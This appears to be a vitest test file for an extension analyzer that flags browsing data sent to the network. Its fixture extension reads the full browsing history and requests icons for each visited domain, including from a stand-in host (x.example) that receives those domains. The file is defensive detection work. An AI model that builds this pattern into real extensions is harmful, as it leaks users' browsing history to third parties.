import { expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/** Severities of what is told of the history, where an icon is asked for at the first of some addresses. */
async function told(...addresses: readonly string[]): Promise<string[]> {
  const list = addresses.map((address) => `\`${address}\``).join(', ');
  const files = {
    'manifest.json':
      '{"manifest_version": 3, "name": "Tabs", "version": "1", "permissions": ["history"], "chrome_url_overrides": {"newtab": "p.html"}}',
    'p.html': '<script src="p.js"></script>',
    'p.js': `function icon(domain) { const list = [${list}]; let at = list[0]; const i = new Image(); i.onerror = () => { list.shift(); at = list[0]; i.src = at; }; i.src = at; } chrome.history.search({ text: "" }, (all) => { for (const { url } of all) icon(new URL(url).hostname); });`,
  };
  const { findings } = await analyze(memoryTree(files), { kind: 'extension' });
  return findings.flatMap(({ rule, severity }) => (rule === 'browsing-data-to-network' ? [severity] : []));
}

const GOOGLE = 'https://www.google.com/s2/favicons?domain=${domain}';

it('weighs a site’s icon that one of several services is asked for as one that is written where it is asked for', async () => {
  expect(await told(GOOGLE)).not.toContain('critical');
  expect(await told(GOOGLE, 'https://icons.duckduckgo.com/ip3/${domain}.ico')).not.toContain('critical');
});

it('and another server among them as what it is', async () => {
  expect(await told(GOOGLE, 'https://x.example/icons?of=${domain}')).toContain('critical');
  expect(await told('https://x.example/icons?of=${domain}')).toContain('critical');
});
